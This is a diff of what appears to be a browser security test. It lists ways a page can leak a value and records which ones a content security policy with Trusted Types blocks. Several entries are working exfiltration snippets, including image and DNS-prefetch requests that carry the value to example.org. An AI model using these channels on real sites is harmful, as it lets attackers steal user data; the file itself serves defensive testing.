@@ -21,7 +21,8 @@ const WAYS: Readonly<Record<string, { readonly kind: string; readonly leak: (ans
   'a beacon': { kind: 'beacon', leak: (answer) => navigator.sendBeacon('/mark.svg', answer) },
   'a picture': { kind: 'request', leak: (answer) => { new Image().src = `/mark.svg?${answer}`; } },
   'a picture of elsewhere': { kind: 'violation', leak: (answer) => { new Image().src = `https://example.org/${answer}.png`; } },
-  'a script': { kind: 'request', leak: (answer) => { document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: `/mark.svg?${answer}` })); } },
+  // Trusted Types stop it before a request is made.
+  'a script': { kind: 'violation', leak: (answer) => { document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: `/mark.svg?${answer}` })); } },
   'a lookup of a name': { kind: 'element', leak: (answer) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `https://${answer}.example.org` })); } },
   'a link that tells when it is followed': { kind: 'element', leak: (answer) => { const link = document.createElement('a'); link.setAttribute('ping', `/${answer}`); document.body.append(link); } },
   'a form': { kind: 'violation', leak: (answer) => { const form = Object.assign(document.createElement('form'), { action: `/${answer}`, method: 'get' }); document.body.append(form); form.submit(); } },
